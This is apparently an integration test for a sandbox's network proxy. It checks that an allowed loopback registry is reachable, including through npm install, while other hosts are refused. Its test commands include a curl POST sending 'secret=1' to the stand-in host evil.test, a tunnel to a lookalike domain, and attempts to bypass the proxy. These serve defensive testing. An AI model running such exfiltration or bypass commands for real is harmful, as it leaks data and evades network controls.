// The sandbox's network, through the real bubblewrap, socat and the filtering proxy: an allowed
// registry (a loopback server standing in, its name mapped to 127.0.0.1 by the proxy's lookup) is
// reached — plain HTTP, a CONNECT tunnel, and `npm install` of a package it serves — while another
// host is refused, recorded, and reported as the sandbox's doing; nothing gets out around the proxy.
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import crypto from 'node:crypto';
import dns from 'node:dns';
import fs from 'node:fs';
import http from 'node:http';
import type { AddressInfo, LookupFunction } from 'node:net';
import path from 'node:path';
import { resolveExecutable } from '../../../../src/core/exec/command-allowlist';
import type { RunRequest } from '../../../../src/core/exec/exec-types';
import { createSandboxExecutor } from '../../../../src/core/exec/run/sandbox-executor';
import { removeTempDirs, tempDir } from '../../../support/fs-fixtures';
import { baseEnv, run } from './executor-support';

/** registry.test and cdn.registry.test resolve to loopback; every other name as usual. */
const lookup = ((host: string, opts: dns.LookupOptions, cb: (...a: unknown[]) => void) => {
  if (!host.endsWith('registry.test')) return dns.lookup(host, opts, cb as never);
  return opts.all ? cb(null, [{ address: '127.0.0.1', family: 4 }]) : cb(null, '127.0.0.1', 4);
}) as LookupFunction;

describe('sandbox network through the proxy (real bubblewrap and socat)', function () {
  this.timeout(60_000);
  let ws: string;
  let server: http.Server;
  let port: number;
  const seen: string[] = [];
  let tarball: Buffer;

  before(async function () {
    if (process.platform !== 'linux') this.skip(); // bubblewrap is Linux-only
    for (const p of ['bwrap', 'socat']) {
      assert.ok(resolveExecutable(p, '/', process.env.PATH), `${p} is not installed: run test/host/install-host.sh (apt-get install bubblewrap socat)`);
    }
    ws = tempDir('sbx-net-ws');
    tarball = packTinyPackage();
    server = http.createServer((q, res) => {
      let body = '';
      q.on('data', (d: Buffer) => (body += d));
      q.on('end', () => {
        seen.push(`${q.method} ${q.headers.host} ${q.url} ${body}`);
        if (q.url === '/pincer-tiny') return res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify(packument()));
        if (q.url === '/pincer-tiny/-/pincer-tiny-1.0.0.tgz') return res.writeHead(200).end(tarball);
        res.end(`pong ${q.method} ${q.url}`);
      });
    });
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
    port = (server.address() as AddressInfo).port;
  });
  after(async () => {
    removeTempDirs();
    await new Promise<void>((r) => (server ? server.close(() => r()) : r()));
  });

  const packument = () => ({
    name: 'pincer-tiny', 'dist-tags': { latest: '1.0.0' },
    versions: { '1.0.0': { name: 'pincer-tiny', version: '1.0.0', dist: {
      tarball: `http://registry.test:${port}/pincer-tiny/-/pincer-tiny-1.0.0.tgz`,
      integrity: `sha512-${crypto.createHash('sha512').update(tarball).digest('base64')}`,
      shasum: crypto.createHash('sha1').update(tarball).digest('hex'),
    } } },
  });
  // The stand-in is on loopback, so its names are listed as the person's own (exactly), as an internal registry would be.
  const sandbox = () => createSandboxExecutor({ writable: [ws], allowDomains: ['registry.test', '*.registry.test'], privateHosts: ['registry.test', 'cdn.registry.test'], lookup, hide: [], caches: [] });
  const req = (shell: string): RunRequest => ({ target: { shell }, cwd: ws, env: baseEnv() });

  it('an allowed domain is reached through the proxy: plain HTTP and a CONNECT tunnel', async () => {
    const r = await run(sandbox(), req(`curl -sS http://registry.test:${port}/plain && echo && curl -sS -p http://cdn.registry.test:${port}/tunnel`));
    assert.deepEqual(r.outcome, { exitCode: 0 }, r.stderr());
    assert.equal(r.stdout(), 'pong GET /plain\npong GET /tunnel');
  });

  it('another host is refused: a POST never arrives, the proxy records it, the result says why', async () => {
    const before = seen.length;
    const r = await run(sandbox(), req(`curl -sS -f -X POST --data secret=1 http://evil.test:${port}/upload`));
    assert.notEqual(r.outcome.exitCode, 0);
    assert.equal(seen.length, before, 'nothing reached the server');
    assert.equal(r.outcome.sandboxDenied?.kind, 'network');
    assert.match(r.outcome.sandboxDenied?.detail ?? '', /refused evil\.test .*pincer\.exec\.sandbox\.allowDomains/);
  });

  it('a tunnel to a lookalike name or an address is refused too', async () => {
    const r = await run(sandbox(), req(`curl -sS -p http://registry.test.evil.test:${port}/ ; curl -sS -p http://10.0.0.1:${port}/`));
    assert.notEqual(r.outcome.exitCode, 0);
    assert.ok(!r.stdout().includes('pong'), r.stdout());
    assert.match(r.outcome.sandboxDenied?.detail ?? '', /registry\.test\.evil\.test, 10\.0\.0\.1/);
  });

  it('an allowed name that resolves to loopback without being listed by name is refused, and the result says why', async () => {
    const before = seen.length;
    const r = await run(sandbox(), req(`curl -sS -f http://mirror.registry.test:${port}/metadata; curl -sS -f -p http://mirror.registry.test:${port}/metadata`));
    assert.notEqual(r.outcome.exitCode, 0);
    assert.equal(seen.length, before, 'nothing reached the server');
    assert.match(r.outcome.sandboxDenied?.detail ?? '', /mirror\.registry\.test resolves to 127\.0\.0\.1, a loopback address/);
  });

  it('nothing gets out around the proxy: the host loopback server and name resolution are unreachable', async () => {
    const r = await run(sandbox(), req(`curl -sS --noproxy '*' -m 5 http://127.0.0.1:${port}/direct; curl -sS --noproxy '*' -m 5 http://registry.test:${port}/direct`));
    assert.notEqual(r.outcome.exitCode, 0);
    assert.ok(!seen.some((s) => s.includes('/direct')), 'the server saw nothing');
    assert.equal(r.outcome.sandboxDenied?.kind, 'network');
  });

  it('npm install works through it from the allowed registry', async () => {
    const r = await run(sandbox(), req(`npm install --no-audit --no-fund --cache '${ws}/.npm-cache' --registry http://registry.test:${port}/ pincer-tiny 2>&1`));
    assert.deepEqual(r.outcome, { exitCode: 0 }, r.stdout() + r.stderr());
    assert.equal(fs.readFileSync(path.join(ws, 'node_modules', 'pincer-tiny', 'index.js'), 'utf8'), 'module.exports = 42;\n');
    assert.ok(seen.some((s) => s.includes('/pincer-tiny/-/pincer-tiny-1.0.0.tgz')));
  });
});

/** A one-file package as npm pack makes it (no network needed). */
function packTinyPackage(): Buffer {
  const dir = tempDir('sbx-pkg');
  fs.writeFileSync(path.join(dir, 'package.json'), JSON.stringify({ name: 'pincer-tiny', version: '1.0.0', main: 'index.js' }));
  fs.writeFileSync(path.join(dir, 'index.js'), 'module.exports = 42;\n');
  const name = execFileSync('npm', ['pack', '--silent'], { cwd: dir, encoding: 'utf8' }).trim().split('\n').pop() as string;
  return fs.readFileSync(path.join(dir, name));
}
